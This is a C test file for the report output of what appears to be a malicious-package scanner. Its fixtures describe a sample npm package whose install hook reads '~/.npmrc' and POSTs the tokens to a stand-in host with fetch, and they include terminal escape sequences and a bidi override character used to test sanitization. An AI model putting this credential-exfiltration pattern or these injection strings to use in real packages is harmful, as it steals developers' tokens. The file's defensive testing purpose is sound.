/* test-report.c - the three formats: order, escaping, exit status. */
#include <errno.h>

#include "test.h"
#include "tools/report-sample.h"

static void render(enum qn_report_format format, bool explain, size_t first, struct qn_buf *out)
{
        struct qn_report_opts o = {
                .format = format, .fail_on = QN_SUSPICIOUS, .explain = explain, .width = 100
        };
        struct sample s;

        sample_init(&s);
        ASSERT_EQ(sample_report(&s, &o, first, out), 1);
        sample_done(&s);
}

static bool holds(const struct qn_buf *b, const char *what)
{
        return qn_str_find(qn_buf_view(b), qn_str_c(what)) >= 0;
}

TEST(exit_status)
{
        const size_t nothing[QN_MALICIOUS + 1] = { 0 }, clean[] = { 5, 0, 0, 0 },
                                            unknown[] = { 5, 1, 0, 0 },
                                            suspicious[] = { 5, 1, 1, 0 },
                                            malicious[] = { 5, 1, 0, 1 };

        ASSERT_EQ(qn_exit_status(QN_SUSPICIOUS, nothing), 0);
        ASSERT_EQ(qn_exit_status(QN_SUSPICIOUS, clean), 0);
        ASSERT_EQ(qn_exit_status(QN_SUSPICIOUS, unknown), 3);
        ASSERT_EQ(qn_exit_status(QN_SUSPICIOUS, suspicious), 1);
        ASSERT_EQ(qn_exit_status(QN_SUSPICIOUS, malicious), 1);
        ASSERT_EQ(qn_exit_status(QN_MALICIOUS, suspicious), 3);
        ASSERT_EQ(qn_exit_status(QN_MALICIOUS, malicious), 1);
}

TEST(format_names)
{
        enum qn_report_format f = QN_REPORT_TEXT;

        ASSERT_EQ(qn_report_format_from_name(QN_STR("xml"), &f), -EINVAL);
        ASSERT_EQ(qn_report_format_from_name(QN_STR("sarif"), &f), 0);
        ASSERT_EQ(f, QN_REPORT_SARIF);
}

TEST(nothing_raw_reaches_a_terminal)
{
        for (int f = QN_REPORT_TEXT; f <= QN_REPORT_SARIF; f++)
                for (int explain = 0; explain < 2; explain++) {
                        _cleanup_(qn_buf_done) struct qn_buf b = QN_BUF_INIT((size_t)1 << 20);

                        render((enum qn_report_format)f, explain, 0, &b);
                        for (size_t i = 0; i < b.n; i++)
                                ASSERT_TRUE((unsigned char)b.p[i] >= 0x20 || b.p[i] == '\n');
                        ASSERT_FALSE(holds(&b, "\xe2\x80\xae"));
                }
}

TEST(text_is_defanged)
{
        _cleanup_(qn_buf_done) struct qn_buf b = QN_BUF_INIT((size_t)1 << 20);

        render(QN_REPORT_TEXT, true, 0, &b);
        ASSERT_FALSE(holds(&b, "https://"));
        ASSERT_TRUE(holds(&b, "hxxps://evil[.]invalid/u"));
}

TEST(text_says_what_people_need)
{
        static const char *const parts[] = {
                "MALICIOUS   @evil/pad\\x1b]0;x\\x07 1.0.0  score 97 of 100\n",
                "    It reads npm tokens and sends them to hxxps://evil[.]invalid.\n",
                "    Credentials leave at install time  [steal, critical, when: install]\n",
                "      lib/setup.js:22:3        net.send       fetch('hxxps://evil[.]invalid/u', ",
                "      package.json             install.hook   command node lib/setup.js\n",
                "      ATT&CK:  TA0006 Credential Access, T1195.002 Compromise",
                "    What to do: Rotate every credential.\n",
                "UNKNOWN     large 1.0.0\n",
                "      not analysed: big.js  the file is \\x1b[31mtoo large\n",
                "UNKNOWN     no-such-package\n    The registry has no package of that name.\n",
                "clean       also-good 1.0.0\nclean       good 1.0.0\n",
                "5 packages checked: 1 malicious, 2 unknown, 2 clean\n",
        };
        _cleanup_(qn_buf_done) struct qn_buf b = QN_BUF_INIT((size_t)1 << 20);

        render(QN_REPORT_TEXT, false, 0, &b);
        for (size_t i = 0; i < QN_ARRAY_SIZE(parts); i++)
                if (!holds(&b, parts[i]))
                        fail_msg("no \"%s\" in:\n%s", parts[i], b.p);
        ASSERT_FALSE(holds(&b, "[hook, info"));
}

TEST(explain_shows_the_way_from_source_to_sink)
{
        static const char *const parts[] = {
                "      lib/setup.js:22:3        net.send       fetch('hxxps://evil[.]invalid/u', "
                "{method:'POST'})\n"
                "        source   lib/a b\\u{202e}.js:14:3  a file with credentials "
                "fs.readFileSync('~/.npmrc')\\x1b[2J\n"
                "        through  lib/setup.js:20:9        becomes the body        "
                "post('hxxps://evil[.]invalid/u', …\n"
                "        sink     lib/setup.js:22:3        net.send                "
                "fetch('hxxps://evil[.]invalid/u',…\n",
        };
        _cleanup_(qn_buf_done) struct qn_buf b = QN_BUF_INIT((size_t)1 << 20),
                                             plain = QN_BUF_INIT((size_t)1 << 20);

        render(QN_REPORT_TEXT, true, 0, &b);
        for (size_t i = 0; i < QN_ARRAY_SIZE(parts); i++)
                if (!holds(&b, parts[i]))
                        fail_msg("no \"%s\" in:\n%s", parts[i], b.p);
        render(QN_REPORT_TEXT, false, 0, &plain);
        ASSERT_FALSE(holds(&plain, "source "));
}

TEST(order_of_arrival_does_not_matter)
{
        for (int f = QN_REPORT_TEXT; f <= QN_REPORT_SARIF; f++) {
                _cleanup_(qn_buf_done) struct qn_buf a = QN_BUF_INIT((size_t)1 << 20);

                render((enum qn_report_format)f, false, 0, &a);
                for (size_t first = 1; first < SAMPLE_RESULTS; first++) {
                        _cleanup_(qn_buf_done) struct qn_buf b = QN_BUF_INIT((size_t)1 << 20);

                        render((enum qn_report_format)f, false, first, &b);
                        ASSERT_TRUE(qn_str_eq(qn_buf_view(&a), qn_buf_view(&b)));
                }
        }
}

TEST(many_clean_packages_are_a_number)
{
        _cleanup_(qn_buf_done) struct qn_buf out = QN_BUF_INIT((size_t)1 << 20);
        _cleanup_(qn_report_freep) struct qn_report *r = NULL;
        struct qn_report_opts o = { .fail_on = QN_SUSPICIOUS };
        struct sample s;

        sample_init(&s);
        ASSERT_EQ(qn_report_new(&o, &r), 0);
        for (int i = 0; i < 500; i++)
                ASSERT_EQ(qn_report_add(r, &s.results[1]), 0);
        ASSERT_EQ(qn_report_end(r, 1500000000, &out), 0);
        ASSERT_STR(qn_buf_view(&out), "500 packages checked in 1.50 s: 500 clean\n");
        ASSERT_EQ(qn_report_status(r), 0);
        ASSERT_EQ(qn_report_count(r, QN_CLEAN), 500);
        sample_done(&s);
}

TEST(an_empty_report_is_valid)
{
        static const char *const want[] = {
                "0 packages checked\n",
                "{\"schema\":\"qanat.check/1\",\"results\":[]}\n",
        };

        for (int f = QN_REPORT_TEXT; f <= QN_REPORT_JSON; f++) {
                _cleanup_(qn_buf_done) struct qn_buf out = QN_BUF_INIT((size_t)1 << 20);
                _cleanup_(qn_report_freep) struct qn_report *r = NULL;
                struct qn_report_opts o = { .format = (enum qn_report_format)f };

                ASSERT_EQ(qn_report_new(&o, &r), 0);
                ASSERT_EQ(qn_report_end(r, 0, &out), 0);
                ASSERT_STR(qn_buf_view(&out), want[f]);
        }
}

TEST(json_contract)
{
        _cleanup_(qn_buf_done) struct qn_buf b = QN_BUF_INIT((size_t)1 << 20);

        render(QN_REPORT_JSON, false, 0, &b);
        ASSERT_TRUE(qn_str_starts(qn_buf_view(&b),
                                  "{\"schema\":\"qanat.check/1\",\"results\":[\n"
                                  "{\"target\":\"no-such-package\",\"name\":null,\"version\":null,"
                                  "\"integrity\":null,\"verdict\":\"unknown\",\"score\":0,"
                                  "\"reason\":\"The registry has no package of that name.\","
                                  "\"elapsed_ms\":0.000,\"findings\":[],\"unanalysed\":[]},\n"));
        ASSERT_TRUE(holds(
                &b, "{\"event\":\"net.send\",\"file\":\"lib/setup.js\",\"offset\":880,\"line\":22,"
                    "\"column\":3,\"text\":\"fetch('https://evil.invalid/u', {method:'POST'})\","
                    "\"flow\":[{\"file\":\"lib/a b\\u202e.js\",\"line\":14,\"column\":3,"
                    "\"what\":\"a file with credentials\",\"text\":\"fs.readFileSync('~/.npmrc')"
                    "\\u001b[2J\"},{\"file\":\"lib/setup.js\",\"line\":20,\"column\":9,"
                    "\"what\":\"becomes the body\","
                    "\"text\":\"post('https://evil.invalid/u', text)\"}]}"));
        ASSERT_TRUE(holds(&b, "\"name\":\"@evil/pad\\u001b]0;x\\u0007\""));
}
